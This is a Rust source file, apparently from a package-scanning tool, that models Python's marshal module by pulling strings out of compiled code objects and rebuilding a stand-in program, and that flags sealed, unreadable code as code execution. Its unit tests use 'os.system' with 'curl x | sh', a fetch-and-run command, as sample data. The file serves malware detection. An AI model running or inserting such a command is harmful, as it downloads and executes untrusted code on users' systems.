//! `marshal`: code that was compiled before it was hidden. Byte code differs from version to version and is not
//! executed; the names that it uses and the texts that it holds are, as a program that does with each of the
//! texts what those names can do. More than that no one hides for an honest reason.

use std::fmt::Write as _;

use vetch_model::capability::{CapabilityId, EvalSource, Resource};
use vetch_syntax::ir::Language;

use super::containers::contents_of;
use crate::apis::codecs::bytes_of;
use crate::apis::{Apis, Call};
use crate::interp::Interp;
use crate::value::{Class, Kind, Taint, Value};

/// Most names, and most texts, of one code object that are looked at.
const MAX_NAMES: usize = 96;
const MAX_TEXTS: usize = 12;

/// Most calls that are tried.
const MAX_CALLS: usize = 160;

/// Most methods that are called of what a call gives.
const MAX_METHODS: usize = 8;

/// Shortest constant of bytes that is looked at.
const LEAST_DATA: usize = 24;

/// Fewest bytes of sealed code.
const LEAST_SEALED: usize = 512;

/// Hidden property: the bytes of a code object.
const CODE: &str = "@@code";

pub(super) fn register(apis: &mut Apis) {
    let marshal = apis.add_python_module(&["marshal"]);
    apis.add_functions(marshal, &["loads", "load"], |interp, call| {
        let data = match call.arg(0).kind {
            Kind::Object(_) => contents_of(interp, &call.arg(0)),
            _ => call.arg(0),
        };
        let taint = interp.deep_taint(&call.arg(0)).or(data.taint).or(Taint::DECODED);
        match bytes_of(interp, &data).filter(|bytes| is_code(bytes)) {
            Some(bytes) => {
                let code = interp.instance(call.api, None, taint);
                interp.set_property(&code, CODE, Value::bytes(bytes).tainted(taint));
                code
            }
            // Only running it would tell.
            None => interp.unknown(taint),
        }
    });
}

/// `TYPE_CODE`, with or without the flag that it is referred to again.
fn is_code(bytes: &[u8]) -> bool {
    bytes.first().is_some_and(|first| first & 0x7f == b'c')
}

impl Interp<'_> {
    /// The text that stands for a code object; `None` for everything else.
    pub(crate) fn outlined_code(&mut self, code: &Value) -> Option<Value> {
        let Kind::Object(id) = code.kind else { return None };
        if !matches!(self.object(id).class, Class::Instance { .. }) {
            return None;
        }
        let Value { kind: Kind::Bytes(bytes), taint } = self.get_property(code, CODE) else { return None };
        if !self.burn_bytes(bytes.len()) {
            return None;
        }
        let text = outline(&strings(&bytes), &|name| self.apis.python_module(name).is_some(), &|module, name| {
            let module = self.apis.python_module(module)?;
            let member = self.apis.member(module, name)?;
            Some(self.apis.is_function(member))
        });
        Some(Value::str(text).tainted(taint))
    }

    /// Runs what stands for a code object.
    pub(crate) fn run_code_object(&mut self, code: &Value) -> Value {
        match self.outlined_code(code) {
            Some(text) => self.run_text_as(&text, Language::Python),
            None => self.unknown(code.taint),
        }
    }
}

impl Interp<'_> {
    /// A module hands its own name or place, and bytes that nobody can read, to a function that is not at hand: what it
    /// does lies in them, as with tools that seal code (`__pyarmor__(__name__, __file__, b"…")`).
    pub(crate) fn note_sealed_code(&mut self, args: &[Value]) {
        let is_sealed = |arg: &Value| match &arg.kind {
            Kind::Bytes(bytes) => {
                let head = &bytes[..bytes.len().min(LEAST_SEALED)];
                head.len() == LEAST_SEALED && head.iter().filter(|byte| !byte.is_ascii()).count() > LEAST_SEALED / 3
            }
            _ => false,
        };
        let is_own =
            |arg: &Value| arg.exact_str().is_some_and(|text| text.starts_with("<package>/") || text == "__main__");
        if args.len() > 1 && args.len() < 8 && args.iter().any(is_sealed) && args.iter().any(is_own) {
            let note = "hands sealed code to a loader that cannot be read";
            self.effect(CapabilityId::CodeEval, Resource::Eval(EvalSource::Decoded), note);
        }
    }
}

/// A constant of a code object, or a name that it uses.
#[derive(Debug, PartialEq)]
enum Constant {
    Text(String),
    Data(Vec<u8>),
}

/// All strings of a marshalled object, in their order. The layouts of code objects differ; those of strings do not.
fn strings(bytes: &[u8]) -> Vec<Constant> {
    let mut found = Vec::new();
    let mut at = 0;
    while let Some(kind) = bytes.get(at) {
        at += 1;
        let (start, length) = match kind & 0x7f {
            b'z' | b'Z' => (at + 1, bytes.get(at).map(|length| usize::from(*length))),
            b'a' | b'A' | b'u' | b't' | b's' => {
                let length = bytes.get(at..at + 4).and_then(|length| length.try_into().ok()).map(u32::from_le_bytes);
                (at + 4, length.map(|length| length as usize))
            }
            _ => continue,
        };
        let body = length.filter(|length| *length > 0).and_then(|length| bytes.get(start..start.checked_add(length)?));
        let Some(body) = body else { continue };
        let text = std::str::from_utf8(body).ok();
        let text = text.filter(|text| text.chars().all(|char| !char.is_control() || "\t\r\n".contains(char)));
        let constant = match text {
            Some(text) => Constant::Text(text.to_owned()),
            // Shorter ones are tables of the code itself.
            None if kind & 0x7f == b's' && body.len() >= LEAST_DATA => Constant::Data(body.to_vec()),
            None => continue,
        };
        at = start + body.len();
        if !found.contains(&constant) && found.len() < MAX_NAMES + MAX_TEXTS {
            found.push(constant);
        }
    }
    found
}

fn is_name(text: &str) -> bool {
    let part = |part: &str| {
        part.starts_with(|char: char| char.is_alphabetic() || char == '_')
            && part.chars().all(|char| char.is_alphanumeric() || char == '_')
    };
    text.split('.').all(part)
}

/// A literal of Python's.
fn literal(constant: &Constant) -> String {
    match constant {
        Constant::Text(text) => {
            let escaped = text.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n").replace('\r', "\\r");
            format!("\"{escaped}\"")
        }
        Constant::Data(bytes) => {
            let mut text = String::from("b\"");
            for byte in bytes {
                let _ = write!(text, "\\x{byte:02x}");
            }
            text + "\""
        }
    }
}

/// A program that imports the modules among `strings` and gives all constants to each function of theirs that is named,
/// and what comes of it to each of them again.
fn outline(
    strings: &[Constant],
    is_module: &dyn Fn(&str) -> bool,
    function: &dyn Fn(&str, &str) -> Option<bool>,
) -> String {
    const BUILTINS: [&str; 6] = ["exec", "eval", "open", "compile", "__import__", "getattr"];
    let (names, constants): (Vec<&Constant>, Vec<&Constant>) =
        strings.iter().partition(|constant| matches!(constant, Constant::Text(text) if is_name(text)));
    let names: Vec<&str> = names
        .into_iter()
        .filter_map(|name| match name {
            Constant::Text(text) => Some(text.as_str()),
            Constant::Data(_) => None,
        })
        .collect();
    let modules: Vec<&str> = names.iter().copied().filter(|name| is_module(name)).collect();
    let mut program = String::from("data = []\n");
    let (mut calls, mut methods) = (Vec::new(), Vec::new());
    for module in &modules {
        let _ = writeln!(program, "import {module}");
    }
    for name in names.iter().copied().filter(|name| !modules.contains(name)) {
        let owners = modules.iter().filter_map(|module| Some((module, function(module, name)?)));
        let before = calls.len();
        for (module, is_function) in owners {
            match is_function {
                true => calls.push(format!("{module}.{name}")),
                false => {
                    let _ = writeln!(program, "data.append({module}.{name})");
                }
            }
        }
        match name {
            _ if calls.len() > before => {}
            _ if BUILTINS.contains(&name) => calls.push(name.to_owned()),
            _ => methods.push(name),
        }
    }
    let mut values: Vec<String> = constants.iter().take(MAX_TEXTS).map(|constant| literal(constant)).collect();
    let (mut made, mut tried) = (0, 0);
    // Byte code names what is called before what it is given: what one round makes, the next one uses.
    while tried < values.len().max(1) && made < MAX_CALLS {
        let given = values.get(tried).map_or(String::new(), |value| format!("{value}, "));
        tried += 1;
        for call in &calls {
            if made >= MAX_CALLS {
                break;
            }
            let _ = writeln!(program, "v{made} = {call}({given}data)\ndata.append(v{made})");
            for method in methods.iter().take(MAX_METHODS) {
                let _ = writeln!(program, "data.append(v{made}.{method}(data))");
            }
            values.push(format!("v{made}"));
            made += 1;
        }
    }
    program
}

/// `types.FunctionType(code, globals())`: gives what running the code gives; it is made to be called.
pub(super) fn function_of_code(interp: &mut Interp<'_>, call: &Call) -> Value {
    interp.evaluate_code(&call.arg(0))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strings_are_found_whatever_the_layout() {
        let text = |text: &str| Constant::Text(text.to_owned());
        let bytes = b"\xe3\0\0\0\0\xf3\x02\0\0\0d\0)\x02\xda\x02os\xda\x06system\xfa\x0bcurl x | sh\xff\xff";
        assert_eq!(strings(bytes), [text("os"), text("system"), text("curl x | sh")]);
        assert_eq!(strings(b"z"), []);
        assert_eq!(strings(b"a\xff\xff\xff\xff"), []);
    }

    #[test]
    fn a_program_stands_for_a_code_object() {
        let strings = ["os", "system", "curl x | sh"].map(|text| Constant::Text(text.to_owned()));
        let text = outline(&strings, &|name| name == "os", &|_, name| (name == "system").then_some(true));
        assert!(text.contains("os.system(\"curl x | sh\", data)"), "{text}");
        assert_eq!(literal(&Constant::Text("a\"\\\n".to_owned())), r#""a\"\\\n""#);
        assert_eq!(literal(&Constant::Data(vec![0, 255])), r#"b"\x00\xff""#);
    }
}
